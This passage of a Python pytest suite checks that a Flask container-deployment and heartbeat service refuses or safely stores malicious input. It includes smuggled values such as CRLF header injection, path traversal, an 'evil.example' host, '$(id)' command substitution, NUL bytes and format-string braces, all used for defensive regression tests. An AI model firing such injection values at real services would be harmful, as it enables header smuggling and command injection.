    assert response.status_code == 202, response.json
    settle()
    assert_no_injected_header(response)
    (container,) = [c for c in world.agent.containers() if c.name == "fuzz-srv"]
    assert container.env_dict() == {"EVIL": injected}
    stored = pg.execute("select string_agg(t::text, '|') from account_tool_instances t").fetchone()[0]
    events = pg.execute("select string_agg(t::text, '|') from account_tool_instance_events t").fetchone()[0]
    assert "X-Injected" not in stored and "X-Injected" not in events


@pytest.mark.parametrize("path", ["mcp", "/mcp\n", "/mcp\r\nX-Injected: 1", "/a/../b", "/..", "//evil.example/x",
                                  "/mcp?x=1", "/mcp#x", "/m cp", "/" + "a" * 201, "/$(id)"])
def test_dangerous_endpoint_paths(clients: dict[str, FlaskClient], world: World, pg: psycopg.Connection,
                                  path: str) -> None:
    before = snapshot(pg)
    response = post_json(clients[DEPLOY], valid_deploy(world) | {"endpoint_path": path}, world.owner_auth)
    assert_refused_before_anything(response, pg, before, world, "endpoint_path")


# --- regressions: each of these once answered 500 ------------------------------------------------------

@pytest.mark.parametrize("change", [
    {"system_status": {"\u0000": 1}}, {"system_status": {"k": "a\u0000b"}}, {"boot_id": "b\u0000"},
    {"future_field": {"x": "\u0000"}}, {"dtma_version": "0.1\u0000"},
], ids=["key", "value", "boot_id", "extra-field", "version"])
def test_nul_characters_in_a_heartbeat_are_400(clients: dict[str, FlaskClient], world: World,
                                               pg: psycopg.Connection, change: dict[str, Any]) -> None:
    """PostgreSQL text (and so jsonb) cannot hold U+0000 (SQLSTATE 22P05): a 400, not a 500."""
    before = snapshot(pg)
    response = post_json(clients[HEARTBEAT], valid_beat(world) | change, world.toolbox_auth)
    check(response, pg, before)
    assert response.status_code == 400


@pytest.mark.parametrize("state", ["{0}", "{}", "{name}", "{x.y}", "%s", "{0!r:>{1}}"])
def test_a_docker_state_with_braces_is_just_an_unknown_state(clients: dict[str, FlaskClient], world: World,
                                                             pg: psycopg.Connection, state: str) -> None:
    """The unknown-state sentence was built with str.format over the agent's own text."""
    beat = valid_beat(world)
    beat["tool_statuses"][0]["state"] = state
    response = post_json(clients[HEARTBEAT], beat, world.toolbox_auth)
    assert response.status_code == 204, response.get_data(as_text=True)
    row = pg.execute("select status_on_toolbox::text, runtime_details->>'state' from account_tool_instances "
                     "where id = %s", (world.running,)).fetchone()
    assert row == ("running", state)


def test_a_status_body_key_that_is_not_unicode_is_400(clients: dict[str, FlaskClient], world: World,
                                                      pg: psycopg.Connection) -> None:
    before = snapshot(pg)
    response = clients[STATUS].post("/", data=b'{"\\ud800": 1}', headers=world.owner_auth,
                                    content_type="application/json")
    check(response, pg, before)
    assert response.status_code == 400
